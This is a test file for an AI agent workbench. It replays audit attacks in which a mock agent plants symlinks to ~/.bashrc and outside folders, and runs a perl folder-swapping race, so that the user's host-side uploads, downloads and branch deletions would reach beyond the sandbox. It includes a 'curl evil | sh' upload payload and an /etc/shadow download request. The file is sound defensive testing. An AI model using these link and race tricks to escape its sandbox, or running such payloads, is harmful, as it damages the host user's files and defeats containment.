import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { type AuditedWorkbench, auditedWorkbenchFor, terminalTurn } from './audited-workbench';
import { startRun, uploadFile, waitFor } from './file-attack-helpers';

// The second audit's attacks on the person's own file operations, through the real launcher, the mock
// model and each real sandbox (bubblewrap, and docker with `--sandbox docker`): the agent plants links
// with terminal commands in its sandbox, then the person uploads, downloads or deletes a branch with
// its files. Each did harm before the fix. The links name host paths, so they lead to the same place
// whichever sandbox planted them: the person's operations run on the host.

const FINISH = { tool_calls: [{ name: 'finish', arguments: { message: 'done' } }] };
const NEVER_CONFIRM = { confirmationPolicy: { kind: 'NeverConfirm' } };
const OUTSIDE_FILES = 300;

/** The workbench of the describe running now: each sandbox's run starts its own and closes it. */
let workbench: AuditedWorkbench;
let outside: string;

/** A folder outside every workspace holding files that must all survive. */
function outsideFolder(): string {
  outside = mkdtempSync(join(tmpdir(), 'audit-outside-'));
  for (let index = 0; index < OUTSIDE_FILES; index++) writeFileSync(join(outside, `f${index}`), 'keep\n');
  return outside;
}

function outsideIntact(): boolean {
  return readdirSync(outside).filter((name) => /^f\d+$/.test(name)).length === OUTSIDE_FILES;
}

describe.each(['bubblewrap', 'docker'] as const)('file audit (%s)', (sandbox) => {
  auditedWorkbenchFor(sandbox, (started) => {
    workbench = started;
  });
  afterAll(() => {
    if (outside) rmSync(outside, { recursive: true, force: true });
  });

  describe('file API: links the agent plants in its workspace', () => {
    it('an upload never writes through notes.txt -> ~/.bashrc or uploads -> /elsewhere; a download never reads through them', async () => {
      const bashrc = join(workbench.home, '.bashrc');
      writeFileSync(bashrc, 'alias ls="ls --color"\n');
      const elsewhere = mkdtempSync(join(tmpdir(), 'audit-elsewhere-'));
      try {
        const plant = `ln -s "${bashrc}" notes.txt; ln -s "${elsewhere}" uploads; ls -l notes.txt uploads`;
        const run = await workbench.runTurns([terminalTurn(plant), FINISH], NEVER_CONFIRM);
        expect(run.status).toBe('finished');

        const overwrite = await uploadFile(
          workbench,
          join(workbench.workspace, 'notes.txt'),
          'curl evil | sh\n',
        );
        expect(overwrite.status).toBe(403);
        expect(overwrite.json().code).toBe('path_link_outside');
        const created = await uploadFile(
          workbench,
          join(workbench.workspace, 'uploads/report.pdf'),
          'person',
        );
        expect(created.status).toBe(403);
        const deeper = await uploadFile(
          workbench,
          join(workbench.workspace, 'uploads/new/dir/a.txt'),
          'person',
        );
        expect(deeper.status).toBe(403);
        const read = await workbench.api.request(
          'GET',
          `/api/file/download?path=${encodeURIComponent(join(workbench.workspace, 'notes.txt'))}`,
        );
        expect(read.status).toBe(403);

        expect(readFileSync(bashrc, 'utf8')).toBe('alias ls="ls --color"\n');
        expect(readdirSync(elsewhere)).toEqual([]);
        expect(read.text).not.toContain('alias ls');

        // The person's own uploads and downloads in the workspace still work.
        const fine = await uploadFile(workbench, join(workbench.workspace, 'docs/brief.txt'), 'the brief');
        expect(fine.status).toBe(200);
        const back = await workbench.api.request(
          'GET',
          `/api/file/download?path=${encodeURIComponent(join(workbench.workspace, 'docs/brief.txt'))}`,
        );
        expect(back.status).toBe(200);
        expect(back.text).toBe('the brief');
      } finally {
        rmSync(elsewhere, { recursive: true, force: true });
      }
    });

    it('a download of a file the sandbox masks (/etc/shadow) is refused', async () => {
      const shadow = await workbench.api.request('GET', '/api/file/download?path=/etc/shadow');
      expect(shadow.status).toBe(403);
      expect(shadow.json().code).toBe('path_forbidden');
      expect(shadow.text).not.toMatch(/root:/);
    });
  });

  describe('deleting a branch with its files while an agent swaps its folders for links', () => {
    it('is refused while another conversation works in the folder, and never deletes outside files', async () => {
      outsideFolder();
      const source = await workbench.runTurns([terminalTurn('echo one > a.txt'), FINISH], NEVER_CONFIRM);
      const branch = await workbench.api.json('POST', `/api/conversations/${source.id}/fork`, {
        files: 'copy',
      });
      const branchId = String(branch.id);
      const folder = String((branch.workspace as { working_dir: string }).working_dir);
      expect(branch.branch_folder).toBe(true);

      // A second conversation in the same folder keeps swapping sub-folders for links to the outside.
      const sharing = await startRun(workbench, folder, [
        terminalTurn(swapLoop('.', outside), 'LOW', { timeout: 60 }),
      ]);
      await waitFor(() => existsSync(join(folder, '.swapping')), 30_000);

      const refused = await workbench.api.request(
        'DELETE',
        `/api/conversations/${branchId}?delete_files=true`,
      );
      expect(refused.status).toBe(409);
      expect(refused.json().code).toBe('branch_folder_in_use');
      expect(existsSync(join(folder, 'a.txt'))).toBe(true);
      expect(outsideIntact()).toBe(true);

      await workbench.api.json('DELETE', `/api/conversations/${sharing}`);
    }, 120_000);

    it('an agent whose workspace holds the branches folder cannot turn the delete against outside files', async () => {
      outsideFolder();
      const source = await workbench.runTurns([terminalTurn('echo two > b.txt'), FINISH], NEVER_CONFIRM);
      const branch = await workbench.api.json('POST', `/api/conversations/${source.id}/fork`, {
        files: 'copy',
      });
      const folder = String((branch.workspace as { working_dir: string }).working_dir);

      // HOME holds `project.branches/`: this agent does not work in the folder, yet can reach it.
      const swapper = await startRun(workbench, workbench.home, [
        terminalTurn(swapLoop(folder, outside), 'LOW', { timeout: 60 }),
      ]);
      await waitFor(() => existsSync(join(folder, '.swapping')), 30_000);

      const deleted = await workbench.api.request(
        'DELETE',
        `/api/conversations/${String(branch.id)}?delete_files=true`,
      );
      expect(outsideIntact()).toBe(true);
      // Deleted without following a link, or refused because the files kept changing: never a 500.
      expect([200, 409]).toContain(deleted.status);
      if (deleted.status === 409) expect(deleted.json().code).toBe('branch_folder_not_removed');

      await workbench.api.json('DELETE', `/api/conversations/${swapper}`);
      expect(outsideIntact()).toBe(true);
    }, 120_000);
  });
});

/**
 * A loop the agent runs in `folder` (perl, for speed: a shell forks for each rename) that fills it
 * with sub-folders `d*`, marks `.swapping` so the test knows it has begun, then keeps swapping every
 * sub-folder for a link to `target` and back, holding the links a moment, for 40 seconds.
 */
function swapLoop(folder: string, target: string): string {
  const script = [
    'my ($folder, $target) = @ARGV; chdir $folder or die;',
    'for my $i (0..99) { mkdir "d$i"; mkdir "d$i/sub"; for my $j (0..19) { open my $f, ">", "d$i/g$j"; close $f } }',
    'open my $m, ">", ".swapping"; close $m;',
    'my $end = time + 40;',
    'while (time < $end) {',
    '  for my $i (0..99) { symlink($target, "d$i") if rename("d$i", ".hd$i") }',
    '  select(undef, undef, undef, 0.002);',
    '  for my $i (0..99) { unlink("d$i") if -l "d$i"; rename(".hd$i", "d$i") }',
    '  select(undef, undef, undef, 0.001);',
    '}',
  ].join(' ');
  return `perl -e '${script}' "${folder}" "${target}"`;
}
